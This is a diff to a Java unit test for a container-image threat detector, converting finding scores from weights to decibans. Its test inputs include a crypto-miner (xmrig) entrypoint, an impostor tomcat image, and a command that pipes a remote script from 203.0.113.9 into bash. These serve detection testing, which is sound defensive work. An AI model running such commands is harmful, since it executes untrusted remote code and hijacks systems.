@@ -11,7 +11,6 @@ import io.firedamp.detectors.indicators.ImageNames;
 import io.firedamp.detectors.indicators.OfficialNames;
 import io.firedamp.detectors.indicators.TraceFinder;
 import io.firedamp.detectors.indicators.Traces;
-import io.firedamp.schemas.avro.Severity;
 import java.time.Duration;
 import java.time.Instant;
 import java.util.List;
@@ -41,8 +40,7 @@ class ImageRulesTest {
     assertThat(knownBad.check(sighting(image, MORNING)))
         .hasValueSatisfying(
             finding -> {
-              assertThat(finding.weight()).isEqualTo(90);
-              assertThat(finding.severity()).isEqualTo(Severity.CRITICAL);
+              assertThat(finding.decibans()).isEqualTo(50);
               assertThat(finding.slot()).isEqualTo(image);
             });
   }
@@ -68,7 +66,7 @@ class ImageRulesTest {
     assertThat(impersonation.check(sighting("docker.io/evil/tomcat11:latest", MORNING)))
         .hasValueSatisfying(
             finding -> {
-              assertThat(finding.weight()).isEqualTo(30);
+              assertThat(finding.decibans()).isEqualTo(10);
               assertThat(finding.title()).contains("poses as official tomcat");
             });
     assertThat(impersonation.check(sighting("docker.io/library/tomcat:9", MORNING))).isEmpty();
@@ -77,11 +75,13 @@ class ImageRulesTest {
 
   @Test
   void weighsAConfigurationByWhatItHolds() {
-    assertThat(judged(Images.MINER)).map(Finding::weight).contains(95);
-    assertThat(judged(List.of("xmrig", "--donate-level", "1"))).map(Finding::weight).contains(80);
+    assertThat(judged(Images.MINER)).map(Finding::decibans).contains(54.0);
+    assertThat(judged(List.of("xmrig", "--donate-level", "1")))
+        .map(Finding::decibans)
+        .contains(44.0);
     assertThat(judged(List.of("sh", "-c", "curl -s http://203.0.113.9/a.sh | bash")))
-        .map(Finding::weight)
-        .contains(40);
+        .map(Finding::decibans)
+        .contains(16.0);
     assertThat(judged(List.of("catalina.sh", "run"))).isEmpty();
   }
 
@@ -98,8 +98,8 @@ class ImageRulesTest {
     Instant longAgo = MORNING.minus(Duration.ofDays(30));
 
     assertThat(newImage.check(start, List.of(MORNING.minus(DAY)), longAgo))
-        .map(Finding::weight)
-        .contains(15);
+        .map(Finding::decibans)
+        .contains(7.0);
     assertThat(newImage.check(start, List.of(MORNING.minus(DAY).minusMillis(1)), longAgo))
         .isEmpty();
   }
@@ -117,8 +117,8 @@ class ImageRulesTest {
     Sighting start = sighting("docker.io/acme/app:1", MORNING);
 
     assertThat(newImage.check(start, List.of(MORNING), MORNING.minus(Duration.ofDays(6))))
-        .map(Finding::weight)
-        .contains(5);
+        .map(Finding::decibans)
+        .contains(3.0);
   }
 
   private Optional<Finding> judged(List<String> entrypoint) {
